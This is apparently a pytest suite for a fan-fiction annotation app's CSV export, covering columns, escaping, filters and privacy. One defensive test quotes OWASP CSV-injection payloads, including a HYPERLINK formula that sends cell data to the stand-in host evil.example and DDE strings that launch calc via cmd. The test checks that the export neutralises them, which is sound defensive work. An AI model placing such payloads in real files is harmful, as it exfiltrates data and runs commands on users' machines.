import csv
import io

import pytest

from fics.models import Chapter, Paragraph, Work
from tests.exports.conftest import annotate_words
from tests.exports.helpers import export

pytestmark = pytest.mark.django_db


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_readwise_columns_and_one_row_per_annotation(story, reader):
    text = export(story.work, reader, "csv")
    read = rows(text)

    assert not text.startswith("\ufeff")
    assert list(read[0]) == [
        "Highlight",
        "Title",
        "Author",
        "URL",
        "Note",
        "Location",
        "Date",
        "Tags",
        "Colour",
        "Chapter",
    ]
    assert len(read) == len(story.mine)
    by_highlight = {row["Highlight"]: row for row in read}
    for annotation in story.mine:
        row = by_highlight[annotation.exact]
        assert row["Note"] == annotation.note
        assert row["Colour"] == annotation.colour
        assert row["Tags"] == ", ".join(sorted(t.name for t in annotation.tags.all()))
        assert row["Chapter"] == annotation.chapter.display_title
        assert row["Title"] == "Stormy Nights: A Tale"
        assert row["Author"] == "A. Writer"
    assert [int(row["Location"]) for row in read] == list(range(1, len(read) + 1))


def test_csv_keeps_quotes_commas_and_line_breaks(story, reader):
    by_highlight = {row["Highlight"]: row for row in rows(export(story.work, reader, "csv"))}

    assert by_highlight["Lexa smiled"]["Note"] == 'Line one\nline two, "quoted"'
    assert "Lexa waited.\n\n# Not a heading" in by_highlight


def test_csv_filters_and_privacy(story, reader):
    only_lexa = rows(export(story.work, reader, "csv", tag="lexa"))
    with_shared = rows(export(story.work, reader, "csv", include_shared=True))

    assert {row["Highlight"] for row in only_lexa} == {"dark* and stormy", "Lexa smiled"}
    assert "bob shares this" in {row["Note"] for row in with_shared}
    assert "bob's secret" not in {row["Note"] for row in with_shared}


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_prefixed(reader, other_reader):
    # Payloads from OWASP's CSV injection page, in every column that readers or authors fill.
    title = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    work = Work.objects.create(
        title=title,
        author="@SUM(1+1)*cmd|' /C calc'!A0",
        content_hash="c" * 64,
        chapter_count=1,
    )
    chapter = Chapter.objects.create(work=work, position=1, title="-2+3+cmd|' /C calc'!A0")
    Paragraph.objects.create(chapter=chapter, position=1, text="+1+1 then @home, =A1 and words.")
    annotate_words(reader, chapter, "+1+1", note="\t=1+1", tag_names=["-minus", "plain"])
    annotate_words(reader, chapter, "@home", note="\r=1+1", tag_names=["@at"])
    annotate_words(reader, chapter, "=A1", note="-1", tag_names=["+plus"])
    annotate_words(other_reader, chapter, "words", note='=HYPERLINK("x")', shared=True)

    read = rows(export(work, reader, "csv", include_shared=True))

    assert [(row["Highlight"], row["Note"], row["Tags"]) for row in read] == [
        ("'+1+1", "'\t=1+1", "'-minus, plain"),
        ("'@home", "'\r=1+1", "'@at"),
        ("'=A1", "'-1", "'+plus"),
        ("words", """'=HYPERLINK("x")""", ""),
    ]
    assert {row["Title"] for row in read} == {f"'{title}"}
    assert {row["Author"] for row in read} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert {row["Chapter"] for row in read} == {"'-2+3+cmd|' /C calc'!A0"}
    cells = [cell for row in read for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
